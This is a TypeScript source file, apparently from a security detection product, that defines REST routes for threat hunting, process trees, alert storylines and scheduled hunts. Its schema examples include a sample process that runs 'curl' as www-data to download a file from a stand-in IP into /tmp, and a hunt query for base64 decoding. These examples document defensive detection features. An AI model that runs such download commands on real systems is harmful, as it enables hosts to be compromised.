// REST routes for hunting: run a query-language hunt, the field list for autocomplete, saved and scheduled hunts.
// Queries compile to parameterised SQL (@vigil/hunt); compile errors come back as 400 with the column and a hint.

import type { FastifyInstance } from 'fastify';
import { VigilError } from '@vigil/common';
import { sigmaLevels, type SigmaLevel } from '@vigil/detect';
import { huntFields } from '@vigil/hunt';
import type { ControlPlane } from '../control-plane/sqlite.js';
import type { HuntService, SavedHunt } from '../hunt/hunt-service.js';
import { processTree, storyline } from '../hunt/process-tree.js';
import type { DetectionDb } from '../detection/detection-db.js';
import type { EventStore } from '@vigil/store';

export interface HuntRouteDeps {
  controlPlane: ControlPlane;
  hunts: HuntService;
  store: EventStore;
  detectionDb: DetectionDb;
}

const exampleTime = '2026-12-04T10:15:00.000Z';

const processNodeSchema = {
  type: 'object',
  required: ['entityId', 'parentEntityId', 'pid', 'ppid', 'executable', 'commandLine', 'user', 'start', 'end', 'exitCode', 'activity'],
  properties: {
    entityId: { type: 'string' },
    parentEntityId: { type: ['string', 'null'] },
    pid: { type: ['integer', 'null'] },
    ppid: { type: ['integer', 'null'] },
    executable: { type: ['string', 'null'] },
    commandLine: { type: ['string', 'null'] },
    user: { type: ['string', 'null'] },
    start: { type: ['string', 'null'] },
    end: { type: ['string', 'null'] },
    exitCode: { type: ['integer', 'null'] },
    activity: { type: 'object', additionalProperties: { type: 'integer' }, description: 'category/action → events this process produced' },
  },
};
const exampleNode = { entityId: 'Q2m0Yx1nT4u8Zk3pR7sWaA', parentEntityId: 'b8Hc2Lq9Vd1Xw3Ke5NfUzg', pid: 4242, ppid: 4100, executable: '/usr/bin/curl', commandLine: 'curl -o /tmp/x http://203.0.113.7/x', user: 'www-data', start: exampleTime, end: null, exitCode: null, activity: { 'network/connect': 1, 'file/create': 1 } };

const isoDate = { type: 'string', format: 'date-time' };
const query = { type: 'string', minLength: 1, maxLength: 131072 };
const idParams = { type: 'object', required: ['id'], properties: { id: { type: 'string', minLength: 1, maxLength: 100 } } };
const exampleQuery = 'process where process.command_line contains "base64 -d" | stats count() by host.id';

const savedHuntSchema = {
  type: 'object',
  required: ['id', 'name', 'description', 'query', 'intervalSeconds', 'threshold', 'level', 'tags', 'enabled', 'createdBy', 'createdAt', 'lastRunAt', 'lastRows', 'lastError'],
  properties: {
    id: { type: 'string' },
    name: { type: 'string' },
    description: { type: 'string' },
    query: { type: 'string' },
    intervalSeconds: { type: ['integer', 'null'], description: 'Seconds between scheduled runs; null: run by hand only' },
    threshold: { type: 'integer', description: 'A scheduled run raises an alert when it returns at least this many rows' },
    level: { type: 'string', enum: [...sigmaLevels] },
    tags: { type: 'array', items: { type: 'string' } },
    enabled: { type: 'boolean' },
    createdBy: { type: 'string' },
    createdAt: isoDate,
    lastRunAt: { type: ['string', 'null'] },
    lastRows: { type: ['integer', 'null'] },
    lastError: { type: ['string', 'null'] },
  },
};
const exampleSaved: SavedHunt = {
  id: '0c1d2e3f-4a5b-4c6d-8e7f-8a9b0c1d2e3f',
  name: 'base64 decoded into a shell',
  description: 'Command lines that decode base64, per host',
  query: exampleQuery,
  intervalSeconds: 300,
  threshold: 1,
  level: 'high',
  tags: ['attack.t1140'],
  enabled: true,
  createdBy: 'admin',
  createdAt: exampleTime,
  lastRunAt: null,
  lastRows: null,
  lastError: null,
};
const savedBody = {
  type: 'object',
  additionalProperties: false,
  properties: {
    name: { type: 'string', minLength: 1, maxLength: 200 },
    description: { type: 'string', maxLength: 2000 },
    query,
    interval_s: { type: ['integer', 'null'], minimum: 10, maximum: 7 * 86400 },
    threshold: { type: 'integer', minimum: 1, maximum: 1_000_000 },
    level: { type: 'string', enum: [...sigmaLevels] },
    tags: { type: 'array', maxItems: 50, items: { type: 'string', maxLength: 100 } },
    enabled: { type: 'boolean' },
  },
};

interface SavedBody {
  name?: string;
  description?: string;
  query?: string;
  interval_s?: number | null;
  threshold?: number;
  level?: SigmaLevel;
  tags?: string[];
  enabled?: boolean;
}

export function registerHuntRoutes(app: FastifyInstance, deps: HuntRouteDeps): void {
  const { controlPlane, hunts, store, detectionDb } = deps;

  app.get(
    '/api/v1/alerts/:id/storyline',
    {
      config: { permission: 'alerts:read' },
      schema: {
        tags: ['hunt'],
        summary: 'Storyline of an alert: the connected events around it',
        description:
          'The events that made the alert, the process tree of the acting process (ancestors and descendants), the events of those processes within the window (files, connections, DNS, children), the host change records in the window (autostart, users, services, modules) with the acting process where file telemetry saw the write, and the other alerts of the host in the window with their ATT&CK tags.',
        params: { type: 'object', required: ['id'], properties: { id: { type: 'string', minLength: 1, maxLength: 200 } } },
        querystring: { type: 'object', additionalProperties: false, properties: { window_s: { type: 'integer', minimum: 1, maximum: 86400, default: 600 } } },
        response: {
          200: {
            description: 'The storyline',
            type: 'object',
            required: ['alertId', 'hostId', 'window', 'alertEvents', 'tree', 'events', 'changes', 'relatedAlerts', 'tags'],
            additionalProperties: true,
            properties: {
              alertId: { type: 'string' },
              hostId: { type: 'string' },
              window: { type: 'object', required: ['start', 'end'], properties: { start: { type: 'string' }, end: { type: 'string' } } },
              alertEvents: { type: 'array', items: { type: 'object', additionalProperties: true } },
              tree: { type: ['object', 'null'], additionalProperties: true },
              events: { type: 'array', items: { type: 'object', additionalProperties: true } },
              changes: { type: 'array', items: { type: 'object', additionalProperties: true } },
              relatedAlerts: { type: 'array', items: { type: 'object', additionalProperties: true } },
              tags: { type: 'array', items: { type: 'string' } },
            },
            examples: [{ alertId: '4f2a', hostId: 'a1b2', window: { start: exampleTime, end: exampleTime }, alertEvents: [], tree: null, events: [], changes: [], relatedAlerts: [], tags: ['attack.t1059.004'] }],
          },
        },
      },
    },
    async (request) => {
      const alert = detectionDb.getAlert((request.params as { id: string }).id);
      if (!alert) throw new VigilError('not_found', 'no such alert');
      const windowMs = ((request.query as { window_s?: number }).window_s ?? 600) * 1000;
      const since = new Date(Date.parse(alert.firstSeen) - windowMs).toISOString();
      const related = detectionDb
        .listAlerts({ hostId: alert.hostId, since, limit: 1000 })
        .map((other) => ({ id: other.id, ruleId: other.ruleId, ruleTitle: other.ruleTitle, level: other.level, tags: other.tags, firstSeen: other.firstSeen, lastSeen: other.lastSeen }));
      return storyline(store, alert, related, windowMs);
    },
  );

  app.get(
    '/api/v1/hosts/:id/process-tree',
    {
      config: { permission: 'events:read' },
      schema: {
        tags: ['hunt'],
        summary: 'Process tree around a process',
        description:
          'The process with this entity id on the host, its ancestors (nearest first) and its descendants (breadth first, at most 10 levels and 2,000 processes), each with what it did: counts of its file, network, DNS and other events by category and action.',
        params: { type: 'object', required: ['id'], properties: { id: { type: 'string', minLength: 1, maxLength: 200 } } },
        querystring: { type: 'object', required: ['entity_id'], additionalProperties: false, properties: { entity_id: { type: 'string', minLength: 1, maxLength: 200 } } },
        response: {
          200: {
            description: 'The tree',
            type: 'object',
            required: ['hostId', 'rootEntityId', 'ancestors', 'nodes', 'edges', 'truncated'],
            properties: {
              hostId: { type: 'string' },
              rootEntityId: { type: 'string' },
              ancestors: { type: 'array', items: processNodeSchema },
              nodes: { type: 'array', items: processNodeSchema },
              edges: { type: 'array', items: { type: 'object', required: ['parent', 'child'], properties: { parent: { type: 'string' }, child: { type: 'string' } } } },
              truncated: { type: 'boolean' },
            },
            examples: [{ hostId: 'a1b2', rootEntityId: exampleNode.entityId, ancestors: [], nodes: [exampleNode], edges: [], truncated: false }],
          },
        },
      },
    },
    async (request) => processTree(store, (request.params as { id: string }).id, (request.query as { entity_id: string }).entity_id),
  );
  const actor = (request: { principal?: { name: string } }) => request.principal?.name ?? 'unknown';

  app.post(
    '/api/v1/hunt',
    {
      config: { permission: 'events:read' },
      schema: {
        tags: ['hunt'],
        summary: 'Run a hunt in the query language',
        description:
          'Compiles the query (see docs/query-language.md) to parameterised SQL and runs it over stored events of every host, optionally limited to a time range and hosts. A query that does not compile is refused with 400, the column of the problem and a hint.',
        body: {
          type: 'object',
          required: ['query'],
          additionalProperties: false,
          properties: { query, start: isoDate, end: isoDate, host_ids: { type: 'array', maxItems: 10000, items: { type: 'string', maxLength: 200 } }, limit: { type: 'integer', minimum: 1, maximum: 100000, default: 1000 } },
          examples: [{ query: exampleQuery, start: '2026-12-03T00:00:00Z' }],
        },
        response: {
          200: {
            description: 'Columns and rows',
            type: 'object',
            required: ['kind', 'columns', 'rows', 'took_ms', 'truncated'],
            properties: {
              kind: { type: 'string', enum: ['events', 'stats', 'top', 'timechart', 'sequence'] },
              columns: { type: 'array', items: { type: 'object', required: ['name', 'type'], properties: { name: { type: 'string' }, type: { type: 'string' } } } },
              rows: { type: 'array', items: { type: 'object', additionalProperties: true } },
              took_ms: { type: 'number' },
              truncated: { type: 'boolean', description: 'More rows matched than the limit' },
            },
            examples: [{ kind: 'stats', columns: [{ name: 'host.id', type: 'keyword' }, { name: 'count', type: 'number' }], rows: [{ 'host.id': 'a1b2', count: 3 }], took_ms: 12.5, truncated: false }],
          },
        },
      },
    },
    async (request) => {
      const body = request.body as { query: string; start?: string; end?: string; host_ids?: string[]; limit?: number };
      const result = await hunts.run({
        query: body.query,
        ...(body.start ? { start: body.start } : {}),
        ...(body.end ? { end: body.end } : {}),
        ...(body.host_ids ? { hostIds: body.host_ids } : {}),
        ...(body.limit ? { limit: body.limit } : {}),
      });
      return { kind: result.kind, columns: result.columns, rows: result.rows, took_ms: result.tookMs, truncated: result.truncated };
    },
  );

  app.get(
    '/api/v1/hunt/fields',
    {
      config: { permission: 'events:read' },
      schema: {
        tags: ['hunt'],
        summary: 'Queryable fields',
        description: 'Every field of the query language with its type, the categories that have it and its description (for autocomplete).',
        response: {
          200: {
            description: 'Fields',
            type: 'array',
            items: { type: 'object', required: ['name', 'type', 'categories', 'description'], properties: { name: { type: 'string' }, type: { type: 'string' }, categories: { type: 'array', items: { type: 'string' } }, description: { type: 'string' } } },
            examples: [[{ name: 'process.command_line', type: 'text', categories: ['process', 'injection'], description: 'Full command line.' }]],
          },
        },
      },
    },
    async () => huntFields(),
  );

  app.get(
    '/api/v1/hunts',
    {
      config: { permission: 'events:read' },
      schema: { tags: ['hunt'], summary: 'Saved hunts', description: 'Saved and scheduled hunts with their last run.', response: { 200: { description: 'Saved hunts', type: 'array', items: savedHuntSchema, examples: [[exampleSaved]] } } },
    },
    async () => hunts.list(),
  );

  app.post(
    '/api/v1/hunts',
    {
      config: { permission: 'rules:manage' },
      schema: {
        tags: ['hunt'],
        summary: 'Save a hunt (optionally scheduled, with an alert threshold)',
        description: 'Saves a query. With interval_s it runs on that schedule over the events since its last run, and raises an alert (kind hunt) per host when a run returns at least threshold rows: custom detection rules written in the query language.',
        body: { ...savedBody, required: ['name', 'query'], examples: [{ name: 'base64 decoded into a shell', query: exampleQuery, interval_s: 300, threshold: 1, level: 'high' }] },
        response: { 201: { description: 'The saved hunt', ...savedHuntSchema, examples: [exampleSaved] } },
      },
    },
    async (request, reply) => {
      const body = request.body as SavedBody & { name: string; query: string };
      const saved = hunts.save(
        { name: body.name, description: body.description ?? '', query: body.query, intervalSeconds: body.interval_s ?? null, threshold: body.threshold ?? 1, level: body.level ?? 'medium', tags: body.tags ?? [], enabled: body.enabled ?? true },
        actor(request),
      );
      controlPlane.audit(actor(request), 'hunt.save', saved.id, 'success', { name: saved.name, interval_s: saved.intervalSeconds });
      return reply.status(201).send(saved);
    },
  );

  app.patch(
    '/api/v1/hunts/:id',
    {
      config: { permission: 'rules:manage' },
      schema: { tags: ['hunt'], summary: 'Change a saved hunt', description: 'Changes any field of a saved hunt; a new query is compiled first.', params: idParams, body: { ...savedBody, minProperties: 1, examples: [{ enabled: false }] }, response: { 200: { description: 'The saved hunt', ...savedHuntSchema, examples: [{ ...exampleSaved, enabled: false }] } } },
    },
    async (request) => {
      const { id } = request.params as { id: string };
      const body = request.body as SavedBody;
      const updated = hunts.update(id, {
        ...(body.name !== undefined ? { name: body.name } : {}),
        ...(body.description !== undefined ? { description: body.description } : {}),
        ...(body.query !== undefined ? { query: body.query } : {}),
        ...(body.interval_s !== undefined ? { intervalSeconds: body.interval_s } : {}),
        ...(body.threshold !== undefined ? { threshold: body.threshold } : {}),
        ...(body.level !== undefined ? { level: body.level } : {}),
        ...(body.tags !== undefined ? { tags: body.tags } : {}),
        ...(body.enabled !== undefined ? { enabled: body.enabled } : {}),
      });
      controlPlane.audit(actor(request), 'hunt.update', id, 'success', body as Record<string, unknown>);
      return updated;
    },
  );

  app.delete(
    '/api/v1/hunts/:id',
    {
      config: { permission: 'rules:manage' },
      schema: { tags: ['hunt'], summary: 'Delete a saved hunt', description: 'Deletes a saved hunt and its schedule.', params: idParams, response: { 200: { description: 'Deleted', type: 'object', required: ['deleted'], properties: { deleted: { type: 'string' } }, examples: [{ deleted: exampleSaved.id }] } } },
    },
    async (request) => {
      const { id } = request.params as { id: string };
      if (!hunts.remove(id)) throw new VigilError('not_found', `no saved hunt ${id}`);
      controlPlane.audit(actor(request), 'hunt.delete', id, 'success');
      return { deleted: id };
    },
  );

  app.post(
    '/api/v1/hunts/:id/run',
    {
      config: { permission: 'events:read' },
      schema: {
        tags: ['hunt'],
        summary: 'Run a saved hunt now',
        description: 'Runs a saved hunt over the events since `since` (default: its last run) and raises an alert when it reaches its threshold.',
        params: idParams,
        body: { type: 'object', additionalProperties: false, properties: { since: isoDate }, examples: [{ since: '2026-12-04T00:00:00Z' }] },
        response: { 200: { description: 'Rows found and whether an alert was raised', type: 'object', required: ['rows', 'alerted'], properties: { rows: { type: 'integer' }, alerted: { type: 'boolean' } }, examples: [{ rows: 2, alerted: true }] } },
      },
    },
    async (request) => {
      const { id } = request.params as { id: string };
      const since = (request.body as { since?: string } | undefined)?.since;
      return hunts.runSaved(id, since);
    },
  );
}
